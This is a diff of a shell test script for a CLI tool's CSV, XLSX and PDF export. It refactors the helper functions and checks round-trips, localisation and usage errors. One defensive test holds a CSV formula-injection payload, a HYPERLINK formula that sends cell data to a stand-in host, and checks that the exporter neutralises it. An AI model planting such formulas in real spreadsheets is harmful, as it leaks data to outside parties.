@@ -10,62 +10,20 @@
 #
 # Environment: EVNE (default build/evne). Needs python3 and pdftotext
 # (poppler-utils).
-set -u
-cd "$(dirname "$0")/../.." || exit 2
-ROOT=$PWD
-EVNE=${EVNE:-$ROOT/build/evne}
-case $EVNE in /*) ;; *) EVNE=$ROOT/$EVNE ;; esac
+TEST_NAME=cli-export
+. "$(dirname "$0")/lib.sh"
 ASAN_EVNE=$ROOT/build/asan/evne
-TMP=$(mktemp -d "${TMPDIR:-/tmp}/evne-cli-export.XXXXXX") || exit 2
-trap 'rm -rf "$TMP"' EXIT INT TERM
-cd "$TMP" || exit 2
-unset EVNE_DB
-DB=t.db
-N=0
 PLAN=53
 
 echo "1..$PLAN"
 
-ok() {
-	N=$((N + 1))
-	echo "ok $N - $1"
-}
-
-not_ok() {
-	N=$((N + 1))
-	echo "not ok $N - $1"
-	if [ -s err ]; then sed 's/^/#   stderr: /' err | head -20; fi
-}
-
-# check NAME EXPECTED_STATUS COMMAND... — runs the command (stdout to out,
-# stderr to err) and checks its exit status.
-check() {
-	name=$1
-	want=$2
-	shift 2
-	"$@" >out 2>err </dev/null
-	got=$?
-	if [ "$got" -eq "$want" ]; then ok "$name"; else not_ok "$name (exit $got, want $want)"; fi
-}
-
-# same NAME FILE EXPECTED — FILE holds exactly EXPECTED (one or more lines).
-same() {
-	printf '%s\n' "$3" >expected
-	if cmp -s expected "$2"; then
-		ok "$1"
-	else
-		not_ok "$1"
-		diff expected "$2" | sed 's/^/#   /'
-	fi
-}
-
-# has NAME FILE TEXT — FILE contains the fixed string TEXT.
-has() {
+# file_has NAME FILE TEXT — FILE contains the fixed string TEXT.
+file_has() {
 	if grep -qF -e "$3" "$2"; then ok "$1"; else not_ok "$1 ('$3' not in $2)"; fi
 }
 
-# hasnt NAME FILE TEXT — FILE does not contain TEXT.
-hasnt() {
+# file_lacks NAME FILE TEXT — FILE does not contain TEXT.
+file_lacks() {
 	if grep -qF -e "$3" "$2"; then not_ok "$1 ('$3' found in $2)"; else ok "$1"; fi
 }
 
@@ -132,9 +90,9 @@ check "a larger demo organisation" 0 "$EVNE" demo --db demo.db --quiet
 "$EVNE" export units --db demo.db -o demo-units.csv --quiet
 "$EVNE" export people --db demo.db -o demo-people.csv --quiet
 check "  ... its units export imports back" 0 "$EVNE" import units demo-units.csv --db demo.db --dry-run
-has "  ... all unchanged" out " 0 created, 0 updated, "
+file_has "  ... all unchanged" out " 0 created, 0 updated, "
 check "  ... its people export imports back" 0 "$EVNE" import people demo-people.csv --db demo.db --dry-run
-has "  ... all unchanged" out " 0 created, 0 updated, "
+file_has "  ... all unchanged" out " 0 created, 0 updated, "
 
 check "--quiet" 0 "$EVNE" export people --db "$DB" -o q.csv --quiet
 truth "  ... prints nothing" [ ! -s err ] && [ ! -s out ]
@@ -146,8 +104,8 @@ employee_number;name;email;unit_code;job_title
 EOF
 "$EVNE" import people evil.csv --db "$DB" --quiet
 check "export people with formula-like text" 0 "$EVNE" export people --db "$DB" -o evil-out.csv --quiet
-has "  ... the name starts with an apostrophe" evil-out.csv "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&A1;\"\"klikk\"\")\""
-has "  ... so do the e-mail and the job title" evil-out.csv "'+47@ostby.kommune.no;OPPV;'@SUM(1+1)"
+file_has "  ... the name starts with an apostrophe" evil-out.csv "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&A1;\"\"klikk\"\")\""
+file_has "  ... so do the e-mail and the job title" evil-out.csv "'+47@ostby.kommune.no;OPPV;'@SUM(1+1)"
 truth "  ... the employee number (a code) is as it was" grep -q '^-77;' evil-out.csv
 
 # ---- XLSX ----
@@ -176,12 +134,12 @@ truth "xlsx to a pipe" python3 xlsx.py piped.xlsx 'name="Personer"'
 check "export units --format pdf" 0 "$EVNE" export units --db "$DB" --format pdf -o units.pdf
 truth "  ... a PDF file" [ "$(head -c 5 units.pdf)" = "%PDF-" ]
 pdftotext -layout units.pdf units.txt 2>err
-has "  ... the title with the organisation" units.txt "Enheter – Østby kommune"
-has "  ... æøå text laid out" units.txt "Sjukeheimen på Åsen"
-has "  ... page numbers" units.txt "Side 1 av 1"
+file_has "  ... the title with the organisation" units.txt "Enheter – Østby kommune"
+file_has "  ... æøå text laid out" units.txt "Sjukeheimen på Åsen"
+file_has "  ... page numbers" units.txt "Side 1 av 1"
 check "export people -o people.pdf --lang en" 0 "$EVNE" export people --db demo.db -o people.pdf --lang en
 pdftotext people.pdf people.txt 2>err
-has "  ... English headings" people.txt "Job title"
+file_has "  ... English headings" people.txt "Job title"
 truth "  ... several pages, numbered" grep -qE 'Page 2 of [0-9]+' people.txt
 
 # ---- nothing half-written; no binary on a terminal ----
@@ -209,15 +167,15 @@ sys.stdout.write(out.decode("utf-8", "replace"))
 sys.exit(os.waitstatus_to_exitcode(status))
 EOF
 check "pdf to a terminal is refused" 2 python3 on_tty.py "$EVNE" export units --db "$DB" --format pdf
-has "  ... saying why" out "will not write pdf to a terminal"
+file_has "  ... saying why" out "will not write pdf to a terminal"
 
 # ---- usage errors ----
 check "unknown --format" 2 "$EVNE" export people --db "$DB" --format doc
-has "  ... names the formats" err "unknown format 'doc' (csv, xlsx or pdf)"
+file_has "  ... names the formats" err "unknown format 'doc' (csv, xlsx or pdf)"
 check "unknown kind" 2 "$EVNE" export staff --db "$DB"
 check "no kind" 2 "$EVNE" export --db "$DB"
 check "--cycle with units" 2 "$EVNE" export units --db "$DB" --cycle 1
-has "  ... units are not per cycle" err "units are not per cycle"
+file_has "  ... units are not per cycle" err "units are not per cycle"
 check "unknown --lang" 2 "$EVNE" export people --db "$DB" --lang sv
 check "-o without a file" 2 "$EVNE" export people --db "$DB" -o
 
